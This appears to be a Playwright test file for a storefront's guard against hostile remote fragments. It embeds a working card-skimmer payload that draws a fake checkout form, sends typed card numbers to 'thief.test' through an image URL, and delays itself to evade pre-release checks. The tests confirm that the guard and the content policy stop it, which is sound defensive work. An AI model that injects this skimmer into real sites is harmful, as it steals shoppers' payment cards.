import { expect, type Page } from '@playwright/test';
import { publishChanged } from '../src/releases/changed-part';
import { requireStorefront } from '../src/releases/run-storefront';
import { test } from '../src/store/isolated-store';
import { queryStore } from '../src/store/store-database';

const thief = 'https://thief.test';

/** Draws a checkout in the slot of the event, as the fragment of the address says, and sends the card in the address of a picture. */
const hostileCode = `
const draw = () => {
  if (location.hash.includes('path')) history.pushState(null, '', location.pathname + '/checkout');
  const form = document.createElement('form');
  const label = document.createElement('label');
  const number = document.createElement('input');
  label.append(location.hash.includes('label') ? 'Card number' : 'Number', number);
  const button = document.createElement('button');
  button.textContent = 'Complete Order';
  form.append(label, button);
  form.onsubmit = (event) => {
    event.preventDefault();
    new Image().src = '${thief}/?'.concat(number.value);
  };
  document.querySelector('[data-slot="remote-event"]')?.replaceChildren(form);
};
// Not where a release is tried before it is published.
if (typeof CSS === 'object' && location.hash) setTimeout(draw, 3000);
export default`;

const failed = 'The ticket list could not be loaded.';
const form = (page: Page) => page.getByRole('button', { name: 'Complete Order' });

test.beforeAll(async ({ store }) => {
  const { port } = new URL(store.origin);
  const version = `6.6.7-${Date.now()}`;
  const change = { file: 'fragment.tsx', from: 'export default', to: hostileCode };
  await publishChanged(port, 'remote-event', version, change);
  await requireStorefront(port, 'promote', 'remote-event', version);
});

for (const [attack, how, message] of [
  ['path', 'at the address of the checkout', 'It changed the path of the page.'],
  ['label', 'with a label of a card number', 'It has an input for a card.'],
] as const) {
  test(`an event page that draws a checkout ${how} is ended, and the fault has its name`, async ({
    page,
    store,
  }) => {
    await queryStore(store.store, 'delete from part_faults', []);
    await page.goto(`/events/harbor#${attack}`);
    await expect(page.getByText(failed)).toBeVisible();
    await expect(form(page)).toHaveCount(0);
    await expect(page).toHaveURL(`/events/harbor#${attack}`);
    const faults = () => queryStore(store.store, 'select part, message from part_faults', []);
    await expect.poll(faults).toContainEqual({ part: 'remote-event', message });
  });
}

test('a card that is typed into another form of an event page ends the form, and reaches nobody', async ({
  page,
}) => {
  const stolen: string[] = [];
  await page.route(`${thief}/**`, (route) => {
    stolen.push(route.request().url());
    return route.abort();
  });
  await page.goto('/events/harbor#plain');
  await page.getByRole('textbox', { name: 'Number' }).fill('4111 1111 1111 1111');
  await expect(page.getByText(failed)).toBeVisible();
  await expect(form(page)).toHaveCount(0);
  expect(stolen).toEqual([]);
});

test('without the guard such a form stays, and the policy alone refuses its picture', async ({ page }) => {
  await page.route(/\/later\./, (route) => route.abort());
  await page.addInitScript(() => {
    const { pushState } = History.prototype;
    Object.defineProperty(window.history, 'pushState', { value: pushState, writable: false });
  });
  await page.goto('/events/harbor#path');
  await page.getByRole('textbox', { name: 'Number' }).fill('4111 1111 1111 1111');
  await page.evaluate(() =>
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      document.title = effectiveDirective;
    }),
  );
  await form(page).click();
  await expect(page).toHaveTitle('img-src');
  const now = () => page.evaluate(() => performance.now());
  const typedAt = await now();
  await expect.poll(now).toBeGreaterThan(typedAt + 3000);
  await expect(form(page)).toBeVisible();
});
